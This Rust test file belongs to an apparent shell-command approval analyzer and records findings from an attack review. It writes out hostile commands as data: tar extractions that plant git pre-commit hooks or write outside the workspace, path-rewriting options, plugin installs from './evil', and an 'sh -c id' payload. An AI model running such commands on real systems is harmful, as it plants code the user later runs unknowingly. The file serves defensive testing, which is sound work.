//! The shell findings of attack review 5, each approved by the analyzer before its fix and
//! confirmed by running it (2.sh, 3.sh) or read from the tools' documentation (8.sh), with the
//! everyday lines that keep passing: a version manager's shim hands over to the PATH without
//! its directory (2), tar's `--one-top-level` and member-renaming options choose where members
//! land (3), and version managers' subcommands run code under aliases and other names (8).

use super::tests::Sandbox;
use super::*;

/// Runs `command` under `options`: whether it was approved, and the reason.
fn verdict(command: &str, options: &AnalyzeOptions) -> (bool, String) {
    let analysis = analyze_command(command, options);
    let reason = analysis
        .reason
        .or_else(|| analysis.segments.first().and_then(|s| s.reason.clone()))
        .unwrap_or_default();
    (analysis.approved, reason)
}

/// The rows of `table` (command, approved, what the reason names) the analyzer gets wrong.
fn failures(table: &[(&str, bool, &str)], options: &AnalyzeOptions) -> Vec<String> {
    table
        .iter()
        .filter_map(|(command, want, names)| {
            let (approved, reason) = verdict(command, options);
            (approved != *want || !reason.contains(names))
                .then(|| format!("{command:?} -> {approved} {reason:?} (want {want} {names:?})"))
        })
        .collect()
}

/// 2.sh: pyenv's shim allowlisted by the README's advice (`~/.pyenv/**`), the workspace's
/// `.python-version` saying `system`, and a `.` entry or a workspace directory after the
/// shims on PATH: `python hello.py` ran the workspace's `./python` (`$W/bin/python`).
#[test]
fn a_shim_never_hands_over_to_a_program_of_the_workspace() {
    let sandbox = Sandbox::new("review5-shims");
    let ws = sandbox.dir("ws");
    std::fs::write(ws.join(".python-version"), "system\n").unwrap();
    std::fs::write(ws.join("hello.py"), "print('hello')\n").unwrap();
    std::fs::write(ws.join("x.js"), "console.log(1)\n").unwrap();
    std::fs::write(ws.join("x.rb"), "puts 1\n").unwrap();
    let shims = sandbox.dir("home/.pyenv/shims");
    for name in ["python", "python3", "pyenv", "ruby", "node"] {
        sandbox.exe(&format!("home/.pyenv/shims/{name}"));
    }
    let rbenv_shims = sandbox.dir("home/.rbenv/shims");
    sandbox.exe("home/.rbenv/shims/ruby");
    let mise_shims = sandbox.dir("home/.local/share/mise/shims");
    let mise = sandbox.exe("home/.local/bin/mise");
    sandbox.link("home/.local/share/mise/shims/node", &mise);
    let system = sandbox.dir("usr/bin");
    for name in ["python", "python3", "ruby", "node"] {
        sandbox.exe(&format!("ws/{name}"));
        sandbox.exe(&format!("ws/bin/{name}"));
        sandbox.exe(&format!("usr/bin/{name}"));
    }
    let home = sandbox.root.join("home");
    let options = |path: String| AnalyzeOptions {
        cwd: Some(ws.clone()),
        allowlist: vec![format!("{}/**", home.display())],
        path: Some(path),
        ..AnalyzeOptions::default()
    };
    let (s, r, m, u, b) = (
        shims.display().to_string(),
        rbenv_shims.display().to_string(),
        mise_shims.display().to_string(),
        system.display().to_string(),
        ws.join("bin").display().to_string(),
    );
    let shim_path = shims.join("python").display().to_string();
    // (PATH, command, approved, what the reason names)
    let cases: Vec<(String, &str, bool, &str)> = vec![
        (
            format!("{s}:.:{u}"),
            "python hello.py",
            false,
            "relative PATH entry `.`",
        ),
        (format!("{s}:.:{u}"), "python3 hello.py", false, "shim"),
        (format!("{s}::{u}"), "python hello.py", false, "(empty)"),
        (format!("{s}:bin:{u}"), "python hello.py", false, "`bin`"),
        (
            format!("{s}:{b}:{u}"),
            "python hello.py",
            false,
            "lies in the workspace",
        ),
        (format!("{s}:.:{u}"), &shim_path, false, "relative"),
        (format!("{r}:.:{u}"), "ruby x.rb", false, "relative"),
        (
            format!("{m}:{b}"),
            "node x.js",
            false,
            "lies in the workspace",
        ),
        // The program after the shims is the system's, or there is none.
        (format!("{s}:{u}:."), "python hello.py", true, "allowlisted"),
        (format!("{s}:{u}"), "python3 hello.py", true, "allowlisted"),
        (s.clone(), "python hello.py", true, "allowlisted"),
        (format!("{s}:{u}"), "pyenv versions", true, "allowlisted"),
        (format!("{m}:{u}"), "node x.js", true, "allowlisted"),
    ];
    let wrong: Vec<String> = cases
        .iter()
        .filter_map(|(path, command, want, names)| {
            let (approved, reason) = verdict(command, &options(path.clone()));
            (approved != *want || !reason.contains(names))
                .then(|| format!("{path} {command:?} -> {approved} {reason:?} (want {names:?})"))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// 3.sh: `tar -xf a.tar --one-top-level=repo/.git` wrote `repo/.git/hooks/pre-commit`, run by
/// the user's next `git commit`; `--one-top-level=/tmp/x` wrote outside the workspace.
#[test]
fn tar_members_land_only_where_an_extraction_may_write() {
    let sandbox = Sandbox::new("review5-tar");
    let ws = sandbox.dir("ws");
    sandbox.dir("ws/repo/.git/hooks");
    sandbox.dir("ws/plain");
    let options = sandbox.allowlisting(ws, &["tar", "bsdtar"]);
    let table: &[(&str, bool, &str)] = &[
        (
            "tar -xf a.tar --one-top-level=repo/.git",
            false,
            "inside a `.git`",
        ),
        ("tar -xf a.tar -C repo", false, "a repository's root"),
        (
            "tar -xf a.tar --one-top-level=repo",
            false,
            "a repository's root",
        ),
        (
            "tar -xf a.tar --one-top-level=/tmp/x",
            false,
            "outside the workspace",
        ),
        (
            "tar -xf a.tar -C plain --one-top-level=../repo",
            false,
            "a repository's root",
        ),
        (
            "tar -xf a.tar -C repo --one-top-level=.git",
            false,
            "inside a `.git`",
        ),
        ("tar -xf .git.tar --one-top-level", false, "inside a `.git`"),
        (
            "tar -xf repo.tar.xz --one-top-level",
            false,
            "a repository's root",
        ),
        ("tar -xzf x/.git.tgz --one-top-l", false, "inside a `.git`"),
        (
            "tar xf a.tar --one-top-level=/etc",
            false,
            "outside the workspace",
        ),
        ("tar -x --one-top-level", false, "does not name"),
        (
            "tar -xf a.tar -C plain --transform s,^,../repo/.git/hooks/,",
            false,
            "--transform",
        ),
        (
            "tar -xf a.tar -C plain --xform=s,^,.git/,",
            false,
            "--xform",
        ),
        (
            "bsdtar -xf a.tar -C plain -s ,^,../repo/.git/,",
            false,
            "-s",
        ),
        (
            "tar -xf a.tar -C plain --keep-directory-symlink",
            false,
            "symlinks",
        ),
        ("bsdtar -x --insecure -f a.tar -C plain", false, "absolute"),
        (
            "tar -xf a.tar --one-top-level=plain/out",
            true,
            "allowlisted",
        ),
        (
            "tar -xf pkg.tar.gz -C plain --one-top-level",
            true,
            "allowlisted",
        ),
        ("tar -xf a.tar -C plain", true, "allowlisted"),
        (
            "tar -cf a.tar --transform s,^,x/, plain",
            true,
            "allowlisted",
        ),
        ("tar -tf a.tar --one-top-level=/tmp/x", true, "allowlisted"),
    ];
    let wrong = failures(table, &options);
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// 8.sh: version managers' and environment tools' subcommands that run code or a command,
/// under their aliases too (mise's `t` = tasks, `p` = plugins, `i`, `ln`), approved with the
/// tool allowlisted; the lines that only select, list or print keep passing.
#[test]
fn version_managers_pass_only_what_selects_lists_or_prints() {
    let sandbox = Sandbox::new("review5-managers");
    let ws = sandbox.dir("ws");
    let programs = [
        "mise",
        "asdf",
        "conda",
        "micromamba",
        "proto",
        "pixi",
        "pyenv",
    ];
    let options = sandbox.allowlisting(ws, &programs);
    let table: &[(&str, bool, &str)] = &[
        ("mise t run build", false, "`mise tasks run`"),
        ("mise p link node ./evil", false, "`mise plugins link`"),
        ("mise p ln node ./evil", false, "`mise plugins link`"),
        ("mise p i node /tmp/evil", false, "`mise plugins install`"),
        ("mise plugins i node /tmp/evil", false, "plugins"),
        (
            "mise generate git-pre-commit --write",
            false,
            "mise generate",
        ),
        ("mise tasks edit build", false, "mise tasks edit"),
        ("mise prepare", false, "mise prepare"),
        ("mise -E dev t run build", false, "tasks run"),
        ("mise --bogus ls", false, "no global option"),
        ("asdf plugin test x ./evil", false, "asdf plugin test"),
        (
            "asdf plugin test x https://e.invalid/p.git \"sh -c id\"",
            false,
            "plugin test",
        ),
        ("asdf plugin add x ./evil", false, "plugin add"),
        ("conda build .", false, "conda build"),
        ("conda develop .", false, "conda develop"),
        (
            "conda env create -f environment.yml",
            false,
            "conda env create",
        ),
        ("conda env update", false, "conda env update"),
        ("conda install ./pkg.conda", false, "./pkg.conda"),
        ("micromamba env create -f env.yml", false, "env create"),
        ("pixi install", false, "pixi install"),
        ("proto run node -- -e 1", false, "proto run"),
        ("proto exec node", false, "proto exec"),
        ("proto shell", false, "proto shell"),
        ("pyenv versions", true, "allowlisted"),
        ("pyenv install 3.12", true, "allowlisted"),
        ("mise ls", true, "allowlisted"),
        ("mise use node@20", true, "allowlisted"),
        ("mise install node@20", true, "allowlisted"),
        ("mise p ls", true, "allowlisted"),
        ("asdf current", true, "allowlisted"),
        ("asdf plugin list", true, "allowlisted"),
        ("conda list", true, "allowlisted"),
        ("conda env list", true, "allowlisted"),
        ("conda install -c conda-forge numpy", true, "allowlisted"),
        ("micromamba env list", true, "allowlisted"),
        ("pixi list", true, "allowlisted"),
        ("proto install node 20", true, "allowlisted"),
        ("proto ls", true, "allowlisted"),
    ];
    let wrong = failures(table, &options);
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
